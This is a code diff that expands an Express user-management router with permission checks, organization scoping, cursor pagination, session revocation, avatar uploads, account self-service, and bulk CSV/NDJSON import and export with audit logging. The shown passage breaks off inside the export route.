@@ -1,139 +1,1212 @@
 const express = require("express");
-const { body, param, validationResult } = require("express-validator");
+const { pipeline } = require("stream/promises");
+const mongoose = require("mongoose");
+const multer = require("multer");
+const crypto = require("crypto");
+const { body, param, query, validationResult } = require("express-validator");
 const { User, ROLES } = require("../models/user.model");
-const { auth, isAdmin, isEditor, isViewer } = require("../middleware/auth");
+const { Role, PERMISSIONS } = require("../models/role.model");
+const { Organization, checkAttributeValues } = require("../models/organization.model");
+const { auth, canAssignRole, requirePermission } = require("../middleware/auth");
+const { scopeOrganization } = require("../middleware/organization");
 const { globalLimiter, usernameLimiter } = require("../middleware/rateLimit");
 const {
-  checkBloomFilter,
+  USERNAME_PATTERN,
+  isReservedUsername,
+  passwordRules,
+} = require("../middleware/validation");
+const {
   cacheGet,
   cacheSet,
+  cacheDelete,
+  namespacedKey,
+  addToUsernameFilter,
+  removeFromUsernameFilter,
   CACHE_KEYS,
 } = require("../config/redis");
+const {
+  listSessions,
+  revokeSession,
+  revokeAllSessions,
+  getSession,
+  toPublicSession,
+} = require("../services/token.service");
+const { unlockAccount } = require("../services/lockout.service");
+const {
+  importUsers,
+  createExportStream,
+  ImportError,
+  BULK_FORMATS,
+  CONTENT_TYPES,
+} = require("../services/userBulk.service");
+const { searchUsers } = require("../services/userSearch.service");
+const { sendVerificationEmail } = require("../services/email.service");
+const { checkPassword } = require("../services/passwordPolicy.service");
+const {
+  storeAvatar,
+  removeAvatar,
+  getAvatarConfig,
+  AvatarError,
+} = require("../services/avatar.service");
+const {
+  isUsernameAvailable,
+  suggestUsernames,
+} = require("../services/usernameFilter.service");
+const {
+  recordAuditEvent,
+  snapshotFields,
+  diffFields,
+  AUDIT_ACTIONS,
+} = require("../services/audit.service");
 
 const router = express.Router();
 
-// Helper function to generate cache key based on query params
-const generateCacheKey = (query) => {
+// Fields /all can sort by; _id breaks ties so the order is stable
+const SORT_FIELDS = ["createdAt", "username", "email", "fullName", "role"];
+const DATE_SORT_FIELDS = ["createdAt"];
+
+// Fields /all can return with ?fields= (never the password or 2FA data)
+const LIST_FIELDS = [
+  "username",
+  "email",
+  "fullName",
+  "role",
+  "organization",
+  "emailVerified",
+  "company",
+  "jobTitle",
+  "phone",
+  "locale",
+  "timezone",
+  "avatar",
+  "attributes",
+  "createdAt",
+  "updatedAt",
+  "deletedAt",
+];
+
+// Helper function to read a list param given as "a,b" or repeated
+const parseList = (value) =>
+  []
+    .concat(value ?? [])
+    .flatMap((item) => String(item).split(","))
+    .map((item) => item.trim())
+    .filter(Boolean);
+
+// Validation middleware for the list filters shared by /all and /export
+const validateUserListQuery = [
+  query(["createdFrom", "createdTo", "updatedFrom", "updatedTo"])
+    .optional()
+    .isISO8601()
+    .toDate(),
+  query("fields")
+    .optional()
+    .custom((value) => parseList(value).every((field) => LIST_FIELDS.includes(field)))
+    .withMessage(`Fields must be any of: ${LIST_FIELDS.join(", ")}`),
+  query("pagination").optional().isIn(["page", "cursor"]),
+  query(["after", "before"]).optional().isString().notEmpty(),
+  query("page").optional().isInt({ min: 1 }).toInt(),
+  query("limit").optional().isInt({ min: 1, max: 100 }).toInt(),
+];
+
+// Helper function to generate cache key based on query params, within the
+// organization's user list namespace
+const generateCacheKey = async (query, organizationId) => {
   const {
+    pagination,
     page = 1,
     limit = 20,
-    sort = "createdAt",
-    order = "desc",
+    after,
+    before,
     role,
     search,
+    deleted,
+    createdFrom,
+    createdTo,
+    updatedFrom,
+    updatedTo,
+    fields,
   } = query;
-  return `${CACHE_KEYS.ALL_USERS}:${page}:${limit}:${sort}:${order}:${
-    role || "all"
-  }:${search || "none"}`;
+  const params = JSON.stringify([
+    pagination,
+    page,
+    limit,
+    after,
+    before,
+    getUserSort(query),
+    parseList(role).sort(),
+    search,
+    deleted === "true",
+    [createdFrom, createdTo, updatedFrom, updatedTo],
+    parseList(fields).sort(),
+  ]);
+  // Hashed to keep keys short whatever the filters are
+  const hash = crypto.createHash("sha1").update(params).digest("hex");
+  return namespacedKey(CACHE_KEYS.ALL_USERS(organizationId), hash);
 };
 
-// Validation middleware
-const validateUserUpdate = [
-  body("email").if(body("email").exists()).isEmail().normalizeEmail(),
-  body("password").if(body("password").exists()).isLength({ min: 8 }),
-  body("fullName").if(body("fullName").exists()).trim().escape(),
-  body("username")
-    .if(body("username").exists())
-    .trim()
-    .isLength({ min: 3, max: 30 })
-    .matches(/^[a-zA-Z0-9_-]+$/)
-    .withMessage("Username can only contain letters, numbers, underscores and hyphens"),
-  body("role")
-    .if(body("role").exists())
-    .isIn(Object.values(ROLES))
-    .withMessage(`Role must be one of: ${Object.values(ROLES).join(", ")}`),
-];
+// Helper function to add a date range condition to a filter
+const addDateRange = (filter, field, from, to) => {
+  if (from || to) {
+    filter[field] = {
+      ...(from && { $gte: from }),
+      ...(to && { $lte: to }),
+    };
+  }
+};
 
-// Get own user info
-router.get("/", [globalLimiter, auth, isViewer], async (req, res) => {
-  res.json({
-    data: {
-      user: req.user,
-    },
-  });
+// Helper function to build the user filter shared by /all and /export
+const buildUserFilter = (
+  { role, search, deleted, createdFrom, createdTo, updatedFrom, updatedTo },
+  orgFilter
+) => {
+  // Limited to the caller's organization scope
+  const query = {
+    ...orgFilter,
+    deletedAt: deleted === "true" ? { $ne: null } : null,
+  };
+  const roles = parseList(role);
+  if (roles.length > 0) {
+    query.role = roles.length === 1 ? roles[0] : { $in: roles };
+  }
+  addDateRange(query, "createdAt", createdFrom, createdTo);
+  addDateRange(query, "updatedAt", updatedFrom, updatedTo);
+  if (search) {
+    // Whole-word search on the text index; GET /search does prefixes
+    query.$text = { $search: String(search) };
+  }
+  return query;
+};
+
+// Helper function to read the sort field and direction from the query
+const getUserSort = ({ sort = "createdAt", order = "desc" }) => ({
+  field: SORT_FIELDS.includes(sort) ? sort : "createdAt",
+  direction: order === "asc" ? 1 : -1,
 });
 
-// Get all users (admin/editor only)
-router.get("/all", [globalLimiter, auth, isEditor], async (req, res, next) => {
+// Helper function to build the sort shared by /all and /export
+const buildUserSort = (query) => {
+  const { field, direction } = getUserSort(query);
+  return { [field]: direction, _id: direction };
+};
+
+// Cursors are opaque to clients: the position of a user in one sort order
+const encodeCursor = (user, { field, direction }) =>
+  Buffer.from(
+    JSON.stringify({ f: field, d: direction, v: user[field] ?? null, id: user._id })
+  ).toString("base64url");
+
+// Helper function to decode a cursor; null if it is malformed or was
+// issued for another sort order
+const decodeCursor = (cursor, { field, direction }) => {
   try {
-    const {
-      page = 1,
-      limit = 20,
-      sort = "createdAt",
-      order = "desc",
-      role,
-      search,
-    } = req.query;
-
-    // Validate query parameters
-    const validLimit = Math.min(Math.max(1, parseInt(limit)), 100);
-    const validPage = Math.max(1, parseInt(page));
-    const validSort = ["createdAt", "username", "email"].includes(sort)
-      ? sort
-      : "createdAt";
-    const validOrder = ["asc", "desc"].includes(order) ? order : "desc";
-
-    // Generate cache key based on query parameters
-    const cacheKey = generateCacheKey(req.query);
-
-    // Try cache first
-    const cachedResult = await cacheGet(cacheKey);
-    if (cachedResult) {
-      return res.json(cachedResult);
-    }
-
-    // Build MongoDB query
-    const query = {};
-    if (role) {
-      query.role = role;
-    }
-    if (search) {
-      query.$or = [
-        { username: { $regex: search, $options: "i" } },
-        { email: { $regex: search, $options: "i" } },
-        { fullName: { $regex: search, $options: "i" } },
-      ];
-    }
-
-    // Execute query with pagination
-    const users = await User.find(query)
-      .sort({ [validSort]: validOrder === "desc" ? -1 : 1 })
-      .skip((validPage - 1) * validLimit)
-      .limit(validLimit);
-
-    const total = await User.countDocuments(query);
-
-    const result = {
-      metadata: {
-        page: validPage,
-        limit: validLimit,
-        total,
-        totalPages: Math.ceil(total / validLimit),
+    const { f, d, v, id } = JSON.parse(Buffer.from(cursor, "base64url").toString());
+    if (f !== field || d !== direction || !mongoose.isValidObjectId(id)) {
+      return null;
+    }
+    const value = DATE_SORT_FIELDS.includes(field) && v !== null ? new Date(v) : v;
+    return { value, id: new mongoose.Types.ObjectId(id) };
+  } catch (error) {
+    return null;
+  }
+};
+
+// Helper function to match users past a cursor position, walking in the
+// given direction (1 ascending, -1 descending)
+const cursorFilter = (field, { value, id }, direction) => {
+  const op = direction === 1 ? "$gt" : "$lt";
+  return {
+    $or: [{ [field]: { [op]: value } }, { [field]: value, _id: { [op]: id } }],
+  };
+};
+
+// Soft-deleted users are only listed on request, to those who can restore them
+const checkDeletedListing = (req, res, next) => {
+  if (req.query.deleted === "true" && !req.permissions.includes(PERMISSIONS.USERS_DELETE)) {
+    return res.status(403).json({
+      error: {
+        code: "AUTHORIZATION_ERROR",
+        message: `Missing permission: ${PERMISSIONS.USERS_DELETE}`,
       },
+    });
+  }
+  next();
+};
+
+// Helper function to pick the bulk format from the Content-Type or ?format
+const getBulkFormat = (req) => {
+  if (req.is("text/csv")) {
+    return BULK_FORMATS.CSV;
+  }
+  if (req.is(["application/x-ndjson", "application/ndjson"])) {
+    return BULK_FORMATS.NDJSON;
+  }
+  return Object.values(BULK_FORMATS).includes(req.query.format)
+    ? req.query.format
+    : null;
+};
+
+// Fields users may be updated with (PATCH and bulk operations)
+const ALLOWED_UPDATE_FIELDS = [
+  "email",
+  "password",
+  "fullName",
+  "username",
+  "role",
+  "company",
+  "jobTitle",
+  "phone",
+  "locale",
+  "timezone",
+  "attributes",
+];
+
+// Fields users may change on their own account (PATCH /me)
+const SELF_UPDATE_FIELDS = [
+  "email",
+  "password",
+  "fullName",
+  "company",
+  "jobTitle",
+  "phone",
+  "locale",
+  "timezone",
+];
+
+// Helper function to load the custom attribute definitions of an
+// organization, once per request
+const getAttributeDefinitions = async (req, organizationId) => {
+  req.attributeDefinitions = req.attributeDefinitions || new Map();
+  const key = String(organizationId);
+  if (!req.attributeDefinitions.has(key)) {
+    const organization = await Organization.findById(organizationId).select("attributeDefinitions");
+    req.attributeDefinitions.set(key, organization?.attributeDefinitions || []);
+  }
+  return req.attributeDefinitions.get(key);
+};
+
+// Helper function to check an IANA time zone name
+const isTimeZone = (value) => {
+  try {
+    new Intl.DateTimeFormat("en-US", { timeZone: value });
+    return true;
+  } catch (error) {
+    return false;
+  }
+};
+
+// Helper function to check whether deleting a user would leave the platform
+// without a super-admin
+const isLastSuperAdmin = async (user, session = null) =>
+  user.role === ROLES.SUPER_ADMIN &&
+  !(await User.exists({
+    role: ROLES.SUPER_ADMIN,
+    deletedAt: null,
+    _id: { $ne: user._id },
+  }).session(session));
+
+// Helper function to check that the caller has every permission of a
+// user's role, so they can't change or delete someone above them
+const canManageUser = (req, user) => canAssignRole(req.permissions, user.role);
+
+const USER_NOT_MANAGEABLE = {
+  status: 403,
+  code: "AUTHORIZATION_ERROR",
+  message: "Cannot change a user with more permissions than your own",
+};
+
+const sendUserNotManageable = (res) =>
+  res.status(USER_NOT_MANAGEABLE.status).json({
+    error: {
+      code: USER_NOT_MANAGEABLE.code,
+      message: USER_NOT_MANAGEABLE.message,
+    },
+  });
+
+// Helper function to keep only the allowed update fields
+const filterUserUpdates = (updates, fields = ALLOWED_UPDATE_FIELDS) =>
+  Object.keys(updates)
+    .filter((key) => fields.includes(key))
+    .reduce((obj, key) => {
+      obj[key] = updates[key];
+      return obj;
+    }, {});
+
+// Helper function to check updates against uniqueness and role rules and
+// apply them to the user (without saving). Returns { error } with the
+// response status, code and message, or { before } with the previous values.
+const applyUserUpdates = async (req, user, updates, session = null) => {
+  if (!(await canManageUser(req, user))) {
+    return { error: USER_NOT_MANAGEABLE };
+  }
+
+  // Check email uniqueness if email is being updated
+  if (updates.email && updates.email !== user.email) {
+    if (await User.exists({ email: updates.email }).session(session)) {
+      return {
+        error: { status: 400, code: "DUPLICATE_ERROR", message: "Email already exists" },
+      };
+    }
+  }
+
+  // Check username uniqueness if username is being updated
+  if (updates.username && updates.username !== user.username) {
+    if (isReservedUsername(updates.username)) {
+      return {
+        error: { status: 400, code: "VALIDATION_ERROR", message: "Username is reserved" },
+      };
+    }
+    if (await User.isUsernameTaken(updates.username, user.organization, session)) {
+      return {
+        error: { status: 400, code: "DUPLICATE_ERROR", message: "Username already exists" },
+      };
+    }
+  }
+
+  // New passwords must not contain the (new) username or email, nor repeat
+  // a recent password
+  if (updates.password !== undefined) {
+    const errors = await checkPassword(updates.password, {
+      user,
+      username: updates.username ?? user.username,
+      email: updates.email ?? user.email,
+    });
+    if (errors.length > 0) {
+      return {
+        error: { status: 400, code: "VALIDATION_ERROR", message: errors.join("; ") },
+      };
+    }
+  }
+
+  // Handle role update (requires users:manage-roles)
+  if (updates.role !== undefined) {
+    if (!req.permissions.includes(PERMISSIONS.USERS_MANAGE_ROLES)) {
+      return {
+        error: {
+          status: 403,
+          code: "AUTHORIZATION_ERROR",
+          message: "Only admins can update user roles",
+        },
+      };
+    }
+
+    // Prevent granting permissions the caller doesn't have
+    if (!(await canAssignRole(req.permissions, updates.role))) {
+      return {
+        error: {
+          status: 403,
+          code: "AUTHORIZATION_ERROR",
+          message: "Cannot assign a role with more permissions than your own",
+        },
+      };
+    }
+
+    // The platform must keep a super-admin
+    if (updates.role !== user.role && (await isLastSuperAdmin(user, session))) {
+      return {
+        error: {
+          status: 409,
+          code: "LAST_SUPER_ADMIN",
+          message: "The last super-admin cannot be given another role",
+        },
+      };
+    }
+  }
+
+  // Custom attributes are merged into the user's (null removes one); the
+  // result must hold every required attribute
+  if (updates.attributes !== undefined) {
+    const definitions = await getAttributeDefinitions(req, user.organization);
+    const { values, errors } = checkAttributeValues(updates.attributes, definitions);
+    if (errors.length > 0) {
+      return {
+        error: { status: 400, code: "VALIDATION_ERROR", message: errors.join("; ") },
+      };
+    }
+
+    const attributes = { ...Object.fromEntries(user.attributes || []), ...values };
+    Object.keys(attributes)
+      .filter((key) => attributes[key] === null)
+      .forEach((key) => delete attributes[key]);
+
+    const missing = definitions
+      .filter((definition) => definition.required && attributes[definition.key] === undefined)
+      .map((definition) => definition.key);
+    if (missing.length > 0) {
+      return {
+        error: {
+          status: 400,
+          code: "VALIDATION_ERROR",
+          message: `Missing required attributes: ${missing.join(", ")}`,
+        },
+      };
+    }
+    updates = { ...updates, attributes };
+  }
+
+  const before = snapshotFields(user, Object.keys(updates));
+
+  // Update user fields
+  Object.keys(updates).forEach((field) => {
+    if (updates[field] !== undefined) {
+      user[field] = updates[field];
+    }
+  });
+
+  return { before };
+};
+
+// Validation rules for user updates; prefix locates the fields in the body
+// and fields selects the rules
+const userUpdateRules = (prefix = "", fields = ALLOWED_UPDATE_FIELDS) => {
+  const rules = {
+    email: body(`${prefix}email`).optional().isEmail().normalizeEmail(),
+    password: passwordRules(`${prefix}password`).optional(),
+    fullName: body(`${prefix}fullName`).optional().trim().escape(),
+    username: body(`${prefix}username`)
+      .optional()
+      .trim()
+      .isLength({ min: 3, max: 30 })
+      .matches(/^[a-zA-Z0-9_-]+$/)
+      .withMessage("Username can only contain letters, numbers, underscores and hyphens"),
+    role: body(`${prefix}role`)
+      .optional()
+      .trim()
+      .toLowerCase()
+      .custom(async (role) => {
+        if (!(await Role.exists({ name: role }))) {
+          throw new Error("Role does not exist");
+        }
+        return true;
+      }),
+    company: body(`${prefix}company`).optional().isString().trim().isLength({ max: 100 }).escape(),
+    jobTitle: body(`${prefix}jobTitle`).optional().isString().trim().isLength({ max: 100 }).escape(),
+    // Empty strings clear the phone, locale and time zone
+    phone: body(`${prefix}phone`)
+      .optional({ values: "falsy" })
+      .isString()
+      .customSanitizer((value) => value.replace(/[\s().-]/g, ""))
+      .matches(/^\+[1-9]\d{6,14}$/)
+      .withMessage("Phone must be in international format, e.g. +14155550123"),
+    locale: body(`${prefix}locale`).optional({ values: "falsy" }).isLocale(),
+    timezone: body(`${prefix}timezone`)
+      .optional({ values: "falsy" })
+      .custom(isTimeZone)
+      .withMessage("Unknown time zone"),
+    attributes: body(`${prefix}attributes`)
+      .optional()
+      .isObject()
+      .withMessage("Attributes must be an object")
+      .bail()
+      .custom(async (attributes, { req }) => {
+        const definitions = await getAttributeDefinitions(req, req.organizationId);
+        const { errors } = checkAttributeValues(attributes, definitions);
+        if (errors.length > 0) {
+          throw new Error(errors.join("; "));
+        }
+        return true;
+      }),
+  };
+  return fields.map((field) => rules[field]);
+};
+
+// Validation middleware
+const validateUserUpdate = userUpdateRules();
+
+// Own account changes: changing the email or password takes the current
+// password
+const validateSelfUpdate = [
+  ...userUpdateRules("", SELF_UPDATE_FIELDS),
+  body("currentPassword").optional().isString(),
+];
+
+const validateAccountClosure = [body("currentPassword").isString().notEmpty()];
+
+const BULK_ACTIONS = {
+  UPDATE: "update",
+  DELETE: "delete",
+};
+
+const MAX_BULK_OPERATIONS = Number(process.env.BULK_MAX_OPERATIONS) || 500;
+
+const validateBulkOperations = [
+  body("atomic").optional().isBoolean().toBoolean(),
+  body("operations")
+    .isArray({ min: 1, max: MAX_BULK_OPERATIONS })
+    .withMessage(`Provide between 1 and ${MAX_BULK_OPERATIONS} operations`),
+  body("operations.*.username").isString().trim().notEmpty(),
+  body("operations.*.action").isIn(Object.values(BULK_ACTIONS)),
+  body("operations.*.changes").optional().isObject(),
+  ...userUpdateRules("operations.*.changes."),
+];
+
+// Get own user info
+router.get(
+  "/",
+  [globalLimiter, auth, requirePermission(PERMISSIONS.PROFILE_READ)],
+  async (req, res) => {
+    res.json({
       data: {
-        users,
+        user: req.user,
       },
-    };
+    });
+  }
+);
 
-    // Cache the results
-    await cacheSet(cacheKey, result, 300); // Cache for 5 minutes
+// List own sessions (devices)
+router.get(
+  "/me/sessions",
+  [globalLimiter, auth, requirePermission(PERMISSIONS.PROFILE_READ)],
+  async (req, res, next) => {
+    try {
+      const sessions = await listSessions(req.user._id);
 
-    res.json(result);
-  } catch (error) {
+      res.json({
+        data: {
+          sessions: sessions.map((session) => toPublicSession(session, req.sessionId)),
+        },
+      });
+    } catch (error) {
+      next(error);
+    }
+  }
+);
+
+// End one of own sessions
+router.delete(
+  "/me/sessions/:id",
+  [globalLimiter, auth, requirePermission(PERMISSIONS.PROFILE_READ)],
+  async (req, res, next) => {
+    try {
+      const session = await getSession(req.params.id);
+      if (!session || session.userId !== String(req.user._id)) {
+        return res.status(404).json({
+          error: {
+            code: "RESOURCE_NOT_FOUND",
+            message: "Session not found",
+          },
+        });
+      }
+
+      await revokeSession(session.id);
+
+      res.json({
+        data: {
+          message: "Session revoked successfully",
+        },
+      });
+    } catch (error) {
+      next(error);
+    }
+  }
+);
+
+// Multipart parser for avatar uploads, kept in memory for resizing
+const parseAvatarUpload = (req, res, next) => {
+  const upload = multer({
+    storage: multer.memoryStorage(),
+    limits: { fileSize: getAvatarConfig().maxBytes, files: 1 },
+  }).single("avatar");
+
+  upload(req, res, (error) => {
+    if (error instanceof multer.MulterError) {
+      return res.status(error.code === "LIMIT_FILE_SIZE" ? 413 : 400).json({
+        error: {
+          code: "UPLOAD_ERROR",
+          message: error.message,
+        },
+      });
+    }
     next(error);
+  });
+};
+
+// Upload own avatar (multipart/form-data, image in the "avatar" field)
+router.put(
+  "/me/avatar",
+  [globalLimiter, auth, parseAvatarUpload],
+  async (req, res, next) => {
+    try {
+      if (!req.file) {
+        return res.status(400).json({
+          error: {
+            code: "VALIDATION_ERROR",
+            message: "Upload an image in the avatar field",
+          },
+        });
+      }
+
+      const user = req.user;
+      const previous = user.avatar?.toObject();
+      user.avatar = await storeAvatar(user, req.file.buffer);
+      await user.save();
+      await removeAvatar(previous);
+
+      await recordAuditEvent(req, {
+        action: AUDIT_ACTIONS.USER_UPDATE,
+        actor: user,
+        target: user,
+        changes: [{ field: "avatar", before: previous?.url ?? null, after: user.avatar.url }],
+      });
+
+      res.json({
+        data: {
+          user,
+        },
+      });
+    } catch (error) {
+      if (error instanceof AvatarError) {
+        return res.status(400).json({
+          error: {
+            code: "INVALID_IMAGE",
+            message: error.message,
+          },
+        });
+      }
+      next(error);
+    }
   }
-});
+);
+
+// Remove own avatar
+router.delete(
+  "/me/avatar",
+  [globalLimiter, auth],
+  async (req, res, next) => {
+    try {
+      const user = req.user;
+      const previous = user.avatar?.toObject();
+      if (previous?.key) {
+        user.avatar = undefined;
+        await user.save();
+        await removeAvatar(previous);
+
+        await recordAuditEvent(req, {
+          action: AUDIT_ACTIONS.USER_UPDATE,
+          actor: user,
+          target: user,
+          changes: [{ field: "avatar", before: previous.url, after: null }],
+        });
+      }
+
+      res.json({
+        data: {
+          user,
+        },
+      });
+    } catch (error) {
+      next(error);
+    }
+  }
+);
+
+// Update own account. Email changes must be verified again; a password
+// change ends all other sessions.
+router.patch(
+  "/me",
+  [globalLimiter, auth, validateSelfUpdate],
+  async (req, res, next) => {
+    try {
+      const errors = validationResult(req);
+      if (!errors.isEmpty()) {
+        return res.status(400).json({
+          error: {
+            code: "VALIDATION_ERROR",
+            message: "Validation Error",
+            details: errors.array().map((err) => ({
+              field: err.path,
+              message: err.msg,
+            })),
+          },
+        });
+      }
+
+      const user = req.user;
+      const filteredUpdates = filterUserUpdates(req.body, SELF_UPDATE_FIELDS);
+      if (Object.keys(filteredUpdates).length === 0) {
+        return res.status(400).json({
+          error: {
+            code: "VALIDATION_ERROR",
+            message: "No valid update fields provided",
+          },
+        });
+      }
+
+      const emailChanged = filteredUpdates.email !== undefined && filteredUpdates.email !== user.email;
+      const passwordChanged = filteredUpdates.password !== undefined;
+      if (emailChanged || passwordChanged) {
+        const { currentPassword } = req.body;
+        if (!currentPassword || !(await user.comparePassword(currentPassword))) {
+          return res.status(400).json({
+            error: {
+              code: "INVALID_PASSWORD",
+              message: "Current password is missing or incorrect",
+            },
+          });
+        }
+      }
+
+      const { error, before } = await applyUserUpdates(req, user, filteredUpdates);
+      if (error) {
+        return res.status(error.status).json({
+          error: {
+            code: error.code,
+            message: error.message,
+          },
+        });
+      }
+
+      if (emailChanged) {
+        user.emailVerified = false;
+      }
+      await user.save();
+
+      // Keep the session making the change
+      const sessionsRevoked = passwordChanged
+        ? await revokeAllSessions(user._id, { except: req.sessionId })
+        : 0;
+
+      if (emailChanged) {
+        try {
+          await sendVerificationEmail(user);
+        } catch (mailError) {
+          console.error("Error sending verification email:", mailError.message);
+        }
+      }
+
+      await recordAuditEvent(req, {
+        action: AUDIT_ACTIONS.USER_UPDATE,
+        actor: user,
+        target: user,
+        changes: diffFields(before, snapshotFields(user, Object.keys(before))),
+        details: passwordChanged ? { sessionsRevoked } : undefined,
+      });
+
+      res.json({
+        data: {
+          user,
+          sessionsRevoked,
+        },
+      });
+    } catch (error) {
+      next(error);
+    }
+  }
+);
+
+// Close own account. It is soft-deleted like DELETE /:username, so an
+// admin can restore it until it is purged.
+router.delete(
+  "/me",
+  [globalLimiter, auth, validateAccountClosure],
+  async (req, res, next) => {
+    try {
+      const errors = validationResult(req);
+      if (!errors.isEmpty()) {
+        return res.status(400).json({
+          error: {
+            code: "VALIDATION_ERROR",
+            message: "Validation Error",
+            details: errors.array().map((err) => ({
+              field: err.path,
+              message: err.msg,
+            })),
+          },
+        });
+      }
+
+      const user = req.user;
+      if (!(await user.comparePassword(req.body.currentPassword))) {
+        return res.status(400).json({
+          error: {
+            code: "INVALID_PASSWORD",
+            message: "Current password is missing or incorrect",
+          },
+        });
+      }
+
+      // The platform must keep a super-admin
+      if (await isLastSuperAdmin(user)) {
+        return res.status(409).json({
+          error: {
+            code: "LAST_SUPER_ADMIN",
+            message: "The last super-admin cannot close their account",
+          },
+        });
+      }
+
+      await user.softDelete(user._id);
+      await revokeAllSessions(user._id);
+
+      await recordAuditEvent(req, {
+        action: AUDIT_ACTIONS.USER_DELETE,
+        actor: user,
+        target: user,
+        details: { selfService: true },
+      });
+
+      res.json({
+        data: {
+          message: "Account closed successfully",
+        },
+      });
+    } catch (error) {
+      next(error);
+    }
+  }
+);
+
+// Get all users (admin/editor only)
+router.get(
+  "/all",
+  [
+    globalLimiter,
+    auth,
+    requirePermission(PERMISSIONS.USERS_READ),
+    scopeOrganization,
+    checkDeletedListing,
+    validateUserListQuery,
+  ],
+  async (req, res, next) => {
+    try {
+      const errors = validationResult(req);
+      if (!errors.isEmpty()) {
+        return res.status(400).json({
+          error: {
+            code: "VALIDATION_ERROR",
+            message: "Validation Error",
+            details: errors.array().map((err) => ({
+              field: err.path,
+              message: err.msg,
+            })),
+          },
+        });
+      }
+
+      const { page = 1, limit = 20, after, before } = req.query;
+      const sort = getUserSort(req.query);
+      // Page numbers stay the default; a cursor switches to cursor mode
+      const pagination =
+        req.query.pagination || (after || before ? "cursor" : "page");
+
+      if (after && before) {
+        return res.status(400).json({
+          error: {
+            code: "VALIDATION_ERROR",
+            message: "Use either after or before, not both",
+          },
+        });
+      }
+
+      const position =
+        pagination === "cursor" && (after || before)
+          ? decodeCursor(after || before, sort)
+          : undefined;
+      if (position === null) {
+        return res.status(400).json({
+          error: {
+            code: "INVALID_CURSOR",
+            message: "Cursor is invalid or belongs to another sort order",
+          },
+        });
+      }
+
+      // Generate cache key based on query parameters
+      const cacheKey = await generateCacheKey(req.query, req.orgFilter.organization);
+
+      // Try cache first
+      const cachedResult = await cacheGet(cacheKey);
+      if (cachedResult) {
+        return res.json(cachedResult);
+      }
+
+      // Build MongoDB query
+      const query = buildUserFilter(req.query, req.orgFilter);
+
+      // The sort field is always loaded so cursors can be built
+      const fields = parseList(req.query.fields);
+      const projection = fields.length > 0 ? [...fields, sort.field].join(" ") : null;
+
+      let result;
+      if (pagination === "cursor") {
+        // Walking backwards flips the sort, then the page is put back in order
+        const direction = before ? -sort.direction : sort.direction;
+        const cursorQuery = position
+          ? { $and: [query, cursorFilter(sort.field, position, direction)] }
+          : query;
+
+        const users = await User.find(cursorQuery)
+          .select(projection)
+          .sort({ [sort.field]: direction, _id: direction })
+          .limit(limit + 1);
+
+        const hasMore = users.length > limit;
+        users.splice(limit);
+        if (before) {
+          users.reverse();
+        }
+
+        const first = users[0];
+        const last = users[users.length - 1];
+        result = {
+          metadata: {
+            pagination,
+            limit,
+            nextCursor: last && (before || hasMore) ? encodeCursor(last, sort) : null,
+            prevCursor: first && (after || (before && hasMore)) ? encodeCursor(first, sort) : null,
+          },
+          data: {
+            users,
+          },
+        };
+      } else {
+        // Execute query with pagination
+        const users = await User.find(query)
+          .select(projection)
+          .sort(buildUserSort(req.query))
+          .skip((page - 1) * limit)
+          .limit(limit);
+
+        const total = await User.countDocuments(query);
+
+        result = {
+          metadata: {
+            pagination,
+            page,
+            limit,
+            total,
+            totalPages: Math.ceil(total / limit),
+          },
+          data: {
+            users,
+          },
+        };
+      }
+
+      // Cache the results
+      await cacheSet(cacheKey, result, 300); // Cache for 5 minutes
+
+      res.json(result);
+    } catch (error) {
+      next(error);
+    }
+  }
+);
+
+// Typeahead search by username, name or email prefix, best matches first
+router.get(
+  "/search",
+  [
+    globalLimiter,
+    auth,
+    requirePermission(PERMISSIONS.USERS_READ),
+    scopeOrganization,
+    query("q").isString().trim().isLength({ min: 1, max: 100 }),
+    query("limit").optional().isInt({ min: 1, max: 20 }).toInt(),
+  ],
+  async (req, res, next) => {
+    try {
+      const errors = validationResult(req);
+      if (!errors.isEmpty()) {
+        return res.status(400).json({
+          error: {
+            code: "VALIDATION_ERROR",
+            message: "Validation Error",
+            details: errors.array().map((err) => ({
+              field: err.path,
+              message: err.msg,
+            })),
+          },
+        });
+      }
+
+      const { q, limit = 10 } = req.query;
+      const results = await searchUsers(req.organizationId, q, { limit });
+
+      res.json({
+        metadata: {
+          q,
+          limit,
+        },
+        data: {
+          users: results.map(({ user, score, highlights }) => ({
+            ...user.toJSON(),
+            score,
+            highlights,
+          })),
+        },
+      });
+    } catch (error) {
+      next(error);
+    }
+  }
+);
+
+// Import users from CSV or NDJSON (admin only)
+router.post(
+  "/import",
+  [globalLimiter, auth, requirePermission(PERMISSIONS.USERS_IMPORT), scopeOrganization],
+  async (req, res, next) => {
+    try {
+      const format = getBulkFormat(req);
+      if (!format) {
+        return res.status(415).json({
+          error: {
+            code: "UNSUPPORTED_MEDIA_TYPE",
+            message: "Send text/csv or application/x-ndjson",
+          },
+        });
+      }
+
+      // Rows may only use roles the caller could assign individually
+      const roles = await Role.find().select("name");
+      const assignableRoles = [];
+      for (const { name } of roles) {
+        if (await canAssignRole(req.permissions, name)) {
+          assignableRoles.push(name);
+        }
+      }
+
+      const dryRun = req.query.dryRun === "true";
+      const summary = await importUsers(req, {
+        format,
+        organizationId: req.organizationId,
+        assignableRoles,
+        dryRun,
+      });
+
+      if (!dryRun) {
+        await recordAuditEvent(req, {
+          action: AUDIT_ACTIONS.USER_IMPORT,
+          actor: req.user,
+          organization: req.organizationId,
+          details: {
+            format,
+            total: summary.total,
+            imported: summary.imported,
+            failed: summary.failed,
+          },
+        });
+      }
+
+      res.status(dryRun ? 200 : 201).json({
+        data: summary,
+      });
+    } catch (error) {
+      if (error instanceof ImportError) {
+        return res.status(400).json({
+          error: {
+            code: "VALIDATION_ERROR",
+            message: error.message,
+          },
+        });
+      }
+      next(error);
+    }
+  }
+);
+
+// Export users as CSV or NDJSON, filtered like /all (admin only).
+// Streams from a database cursor so large organizations fit in memory.
+router.get(
+  "/export",
+  [
+    globalLimiter,
+    auth,
+    requirePermission(PERMISSIONS.USERS_EXPORT),
+    scopeOrganization,
+    checkDeletedListing,
+    validateUserListQuery,
+  ],
+  async (req, res, next) => {
+    try {
+      const errors = validationResult(req);
+      if (!errors.isEmpty()) {
+        return res.status(400).json({
+          error: {
+            code: "VALIDATION_ERROR",
+            message: "Validation Error",
+            details: errors.array().map((err) => ({
+              field: err.path,
+              message: err.msg,
+            })),
+          },
+        });
+      }
+
+      const format = req.query.format || BULK_FORMATS.CSV;
+      if (!Object.values(BULK_FORMATS).includes(format)) {
+        return res.status(400).json({
+          error: {
+            code: "VALIDATION_ERROR",
